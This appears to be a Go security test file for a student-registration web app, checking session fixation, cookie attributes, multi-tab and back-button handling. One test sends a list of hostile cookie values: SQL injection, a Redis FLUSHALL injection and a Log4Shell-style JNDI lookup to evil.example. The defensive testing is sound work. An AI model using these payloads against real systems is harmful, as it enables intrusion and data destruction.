package security_test

import (
	"database/sql"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"matriq/pkg/api/restapi"
	"matriq/pkg/mailsink"
	"matriq/test/harness"
)

// sessionTrials are attacks on the way through the pages.
func sessionTrials() []trial {
	return []trial{
		{"SessionFixation", sessionFixation},
		{"SessionCookie", sessionCookie},
		{"SessionGarbage", sessionGarbage},
		{"SessionTwoTabs", sessionTwoTabs},
		{"SessionProveAAskForB", proveAAskForB},
		{"SessionBackButton", sessionBackButton},
		{"SessionPeopleTakeTurns", peopleTakeTurns},
	}
}

// sid is the name of the session's cookie over plain HTTP on one machine.
const sid = "sid"

// asks sends an address and returns the page that asks for the code.
func asks(t *testing.T, p *harness.Person, email string) *harness.Page {
	t.Helper()
	page := p.Open(t, "/").Submit(t, map[string]string{"email": email})
	page.Has(t, "/authen", email)
	return page
}

// newest is the code of the newest mail to an address.
func (s *system) newest(t *testing.T, email string) string {
	t.Helper()
	mail := s.WaitMail(t, "a code to "+email, func(m mailsink.Message) bool {
		return m.To == email && harness.FindCode(m) != ""
	})
	return harness.FindCode(mail)
}

// proves goes to the page that asks for the names.
func (s *system) proves(t *testing.T, p *harness.Person, email string) *harness.Page {
	t.Helper()
	page := asks(t, p, email).Submit(t, map[string]string{"otp": s.newest(t, email)})
	page.Has(t, "/reg", email)
	return page
}

// names are what the last form asks for.
func names(first, last string) map[string]string {
	return map[string]string{"firstname": first, "lastname": last}
}

// Threat: who plants a session's cookie in another's browser, one made up or one
// of a journey of his own, is in that journey when the other has proved herself.
// Promise: a cookie that we did not give counts for nothing, and the session gets
// a new one at the first form, after the code and after the names; an old one
// leads nowhere.
func sessionFixation(t *testing.T, s *system) {
	attacker := s.person(t, "en")
	asks(t, attacker, s.address())
	for name, planted := range map[string]string{"made up": strings.Repeat("A", 43), "the attacker's": attacker.Cookie(t, sid)} {
		email := s.listed(t)
		victim := s.person(t, "en")
		victim.Plant(t, sid, planted)
		held := []string{planted}
		keep := func(page *harness.Page) *harness.Page {
			held = append(held, victim.Cookie(t, sid))
			return page
		}
		page := keep(asks(t, victim, email))
		page = keep(page.Submit(t, map[string]string{"otp": s.newest(t, email)}))
		page.Has(t, "/reg", email)
		page = keep(page.Submit(t, names("Malee", "Jaidee")))
		page.Has(t, "/done", "Malee Jaidee")

		now := held[len(held)-1]
		if slices.Sort(held); len(slices.Compact(slices.Clone(held))) != 4 {
			t.Errorf("%s: the cookie was not changed at each step: %q", name, held)
		}
		for _, old := range held {
			thief := s.person(t, "en")
			thief.Plant(t, sid, old)
			for _, path := range []string{"/authen", "/reg", "/done"} {
				page := thief.Open(t, path)
				inside := page.URL.Path == "/done"
				if inside != (old == now) || !inside && strings.Contains(page.Body, email) {
					t.Errorf("%s: %s with the cookie number %d of %d leads to %s:\n%s", name, path, slices.Index(held, old), len(held), page.URL, page.Text())
				}
			}
		}
	}
}

// Threat: a session that a script reads, another site's request carries, that can
// be guessed, or that is there before anybody began. Promise: HttpOnly,
// SameSite=Lax, for this host alone, without an end of its own, of 128 bits or
// more; over HTTPS Secure under the prefix __Host-, with HSTS. A GET makes none.
func sessionCookie(t *testing.T, s *system) {
	seen := map[string]bool{}
	for range 20 {
		c := cookieOf(t, s, s.UI.URL, s.address())
		if c.Name != sid || !c.HttpOnly || c.SameSite != http.SameSiteLaxMode || c.Path != "/" || c.Domain != "" || c.MaxAge != 0 || !c.Expires.IsZero() || c.Secure {
			t.Errorf("the cookie is %s", c)
		}
		const bitsOfALetter = 6
		if len(c.Value)*bitsOfALetter < 128 || seen[c.Value] {
			t.Errorf("the cookie %q is short, or was given before", c.Value)
		}
		seen[c.Value] = true
	}
	for _, key := range s.redis.Keys(t.Context(), "ui:session:*").Val() {
		if life := s.redis.TTL(t.Context(), key).Val(); life <= 0 || life > 15*time.Minute {
			t.Errorf("a session in which nothing happens lives %v", life)
		}
		for value := range seen {
			if strings.Contains(key, value) {
				t.Errorf("Redis holds the cookie itself: %s", key)
			}
		}
	}
}

// cookieOf asks for a code and returns the one cookie that comes with the answer.
func cookieOf(t *testing.T, s *system, origin, email string) *http.Cookie {
	t.Helper()
	a := send(t, s, http.MethodPost, origin+"/", strings.NewReader("email="+email), http.Header{
		"Content-Type": {"application/x-www-form-urlencoded"}, "Sec-Fetch-Site": {"same-origin"},
	})
	cookies := (&http.Response{Header: a.Header}).Cookies()
	if a.Status != http.StatusSeeOther || len(cookies) != 1 {
		t.Fatalf("the form is answered with %d and the cookies %v", a.Status, cookies)
	}
	return cookies[0]
}

// Threat: see [sessionCookie]; behind TLS.
func TestSessions_BehindTLS(t *testing.T) {
	t.Parallel()
	const host = "register.example.ac.th"
	s := startPlan(t, harness.Plan{
		Replicas: map[string]int{"ui": 1, "otp-gateway": 1, "otp": 1, "email": 1},
		Settings: map[string]string{"PUBLIC_ORIGIN": "https://" + host},
	})
	req := request(t, http.MethodPost, s.UI.URL+"/", strings.NewReader("email="+s.address()), http.Header{
		"Content-Type": {"application/x-www-form-urlencoded"}, "Origin": {"https://" + host},
	})
	req.Host = host
	a := answerTo(t, s, req)
	got := a.Header.Get("Set-Cookie")
	for _, part := range []string{"__Host-sid=", "; Path=/", "; HttpOnly", "; Secure", "; SameSite=Lax"} {
		if !strings.Contains(got, part) {
			t.Errorf("the cookie %q lacks %q", got, part)
		}
	}
	if strings.Contains(got, "Domain") || a.Status != http.StatusSeeOther {
		t.Errorf("answer %d with the cookie %q", a.Status, got)
	}
	if hsts := a.Header.Get("Strict-Transport-Security"); !strings.HasPrefix(hsts, "max-age=31536000") {
		t.Errorf("Strict-Transport-Security is %q", hsts)
	}
	if a := send(t, s, http.MethodGet, s.UI.URL+"/", nil, nil); a.Status != http.StatusMisdirectedRequest {
		t.Errorf("the machine's own name is answered with %d, want 421", a.Status)
	}
}

// Threat: a cookie that is no session's, but a key of Redis, a pattern, a line of
// its protocol, far too long. Promise: whoever has it begins anew, as if there
// were none.
func sessionGarbage(t *testing.T, s *system) {
	for _, value := range []string{
		"", "*", "?", "../otp:failed", "otp:failed:*", "ui:session:x", "\\x00", "%00", "%0d%0aFLUSHALL", strings.Repeat("A", 4000),
		"{}", "null", `\`, "a b", "ก", "' OR 1=1 --", "${jndi:ldap://evil.example}", "{{.}}",
	} {
		for _, path := range []string{"/start", "/authen", "/reg", "/done", "/done/progress"} {
			a := send(t, s, http.MethodGet, s.UI.URL+path, nil, http.Header{"Cookie": {sid + "=" + value}})
			began := a.Status == http.StatusSeeOther && strings.HasPrefix(a.Header.Get("Location"), "/")
			if !began && (path != "/done/progress" || a.Status != http.StatusNotFound) {
				t.Errorf("%s with the cookie %q is answered with %d", path, value, a.Status)
			}
		}
	}
	// Several cookies of the name: the first counts, whoever planted the others.
	email := s.address()
	own := cookieOf(t, s, s.UI.URL, email).Value
	a := send(t, s, http.MethodGet, s.UI.URL+"/authen", nil, http.Header{"Cookie": {sid + "=" + own + "; " + sid + "=" + strings.Repeat("A", 43)}})
	if a.Status != http.StatusOK || !strings.Contains(string(a.Body), email) {
		t.Errorf("two cookies of the name are answered with %d:\n%s", a.Status, a.Body)
	}
}

// Threat: one person with two tabs, each at another address; what one tab sends
// counts for the other's. Promise: the newer tab is the journey; the older one's
// form is not taken, says so, costs no guess, and shows where the person is.
func sessionTwoTabs(t *testing.T, s *system) {
	first, second := s.listed(t), s.listed(t)
	p := s.person(t, "en")
	older := asks(t, p, first)
	codeOfFirst := s.newest(t, first)
	newer := asks(t, p, second)
	codeOfSecond := s.newest(t, second)

	page := older.Submit(t, map[string]string{"otp": codeOfFirst})
	page.Has(t, "/authen", second, "another window")
	if strings.Contains(page.Text(), first) {
		t.Errorf("the page shows both addresses:\n%s", page.Text())
	}
	page = newer.Submit(t, map[string]string{"otp": codeOfFirst})
	page.Has(t, "/authen", second, "not the right code", "Tries left: 4.")
	page = page.Submit(t, map[string]string{"otp": codeOfSecond})
	page.Has(t, "/reg", second)
	page = page.Submit(t, names("Second", "Tab"))
	page.Has(t, "/done", "Second Tab")
	// The first address is still free: nothing was spent in its name.
	if !s.client().guess(t, first, codeOfFirst) {
		t.Error("the code of the older tab's address was spent")
	}
	if n := s.students(t, first); n != 0 {
		t.Errorf("%s is registered %d times", first, n)
	}
}

// Threat: prove one's own address, then ask for another's and register that.
// Promise: asking for a code forgets who had proved what; the old page's form is
// not taken, with the journey's mark or without.
func proveAAskForB(t *testing.T, s *system) {
	own, other := s.listed(t), s.listed(t)
	p := s.person(t, "en")
	proved := s.proves(t, p, own)
	asks(t, p, other)

	for _, path := range []string{"/reg", "/done", "/start"} {
		if page := p.Open(t, path); page.URL.Path != "/authen" && path != "/start" {
			t.Errorf("%s leads to %s", path, page.URL)
		}
	}
	page := proved.Submit(t, names("Not", "Proved"))
	page.Has(t, "/authen", other)
	page = proved.Submit(t, map[string]string{"firstname": "Not", "lastname": "Proved", "journey": ""})
	page.Has(t, "/authen", other)

	c := s.client()
	a := c.PostJSON(t, c.RegisterURL(), restapi.RegisterRequest{Firstname: "Not", Lastname: "Proved", Email: other})
	if a.Status != http.StatusForbidden || !strings.Contains(string(a.Body), "not_verified") {
		t.Errorf("the gateway answers %d %s", a.Status, a.Body)
	}
	for _, email := range []string{own, other} {
		if n := s.students(t, email); n != 0 {
			t.Errorf("%s is registered %d times", email, n)
		}
	}
}

// Threat: on a machine that others use next, the back button shows who was there,
// or sends a form again. Promise: pages that know anything are not kept by any
// cache; a form that was sent repeats nothing; leaving ends the session, here and
// in Redis.
func sessionBackButton(t *testing.T, s *system) {
	email := s.listed(t)
	p := s.person(t, "en")
	code := asks(t, p, email)
	proved := code.Submit(t, map[string]string{"otp": s.newest(t, email)})
	done := proved.Submit(t, names("Malee", "Jaidee"))
	done.Has(t, "/done", "Malee Jaidee")
	for _, page := range []*harness.Page{code, proved, done} {
		if got := page.Header.Get("Cache-Control"); got != "no-store" {
			t.Errorf("%s may be kept: %q", page.URL, got)
		}
	}
	for _, again := range []*harness.Page{
		code.Submit(t, map[string]string{"otp": "000000"}), proved.Submit(t, names("Malee", "Jaidee")), proved.Submit(t, names("Another", "Name")),
	} {
		again.Has(t, "/done", "Malee Jaidee")
	}
	if n := s.students(t, email); n != 1 {
		t.Errorf("%s is registered %d times, want once", email, n)
	}

	last := p.Cookie(t, sid)
	left := done.SubmitTo(t, "/leave", nil)
	left.Has(t, "/")
	if now := p.Cookie(t, sid); now != "" {
		t.Errorf("the browser still holds the cookie %q", now)
	}
	for _, cookie := range []string{"", last} {
		next := s.person(t, "en")
		if cookie != "" {
			next.Plant(t, sid, cookie)
		}
		for _, path := range []string{"/start", "/authen", "/reg", "/done"} {
			if page := next.Open(t, path); page.URL.Path != "/" || strings.Contains(page.Body, email) || strings.Contains(page.Body, "Malee") {
				t.Errorf("after leaving, %s leads to %s:\n%s", path, page.URL, page.Text())
			}
		}
	}
}

// Threat: two people behind one address, at the same replicas in turn, get each
// other's page. Promise: each sees the own address, names and number at every
// step, and never the other's.
func peopleTakeTurns(t *testing.T, s *system) { turns(t, s, s.UI.URL) }

// turns is [peopleTakeTurns] at the pages of origin.
func turns(t *testing.T, s *system, origin string) {
	t.Helper()
	const pairs = 5
	for range pairs {
		source := s.source()
		var people [2]*harness.Person
		var emails [2]string
		var pages [2]*harness.Page
		each := func(what string, step func(i int)) {
			for i := range people {
				step(i)
			}
			for i := range people {
				page := pages[i].Again(t)
				if !strings.Contains(page.Body, emails[i]) && page.URL.Path != "/done" || strings.Contains(page.Body, emails[1-i]) {
					t.Fatalf("%s: %s of %s shows:\n%s", what, page.URL, emails[i], page.Text())
				}
			}
		}
		each("the code", func(i int) {
			emails[i] = s.listed(t)
			people[i] = harness.NewPerson(t, origin, "en").From(source)
			pages[i] = asks(t, people[i], emails[i])
		})
		each("the names", func(i int) {
			pages[i] = pages[i].Submit(t, map[string]string{"otp": s.newest(t, emails[i])})
		})
		each("the number", func(i int) {
			pages[i] = pages[i].Submit(t, names(fmt.Sprintf("Name%c", 'A'+i), "Turns"))
			pages[i].Has(t, "/done", fmt.Sprintf("Name%c Turns", 'A'+i))
		})
	}
}

// students is how often an address is registered.
func (s *system) students(t *testing.T, email string) (n int) {
	t.Helper()
	db, err := sql.Open("mysql", s.StudentDSN)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	if err := db.QueryRowContext(t.Context(), "SELECT COUNT(*) FROM students WHERE email = ?", email).Scan(&n); err != nil {
		t.Fatal(err)
	}
	return n
}
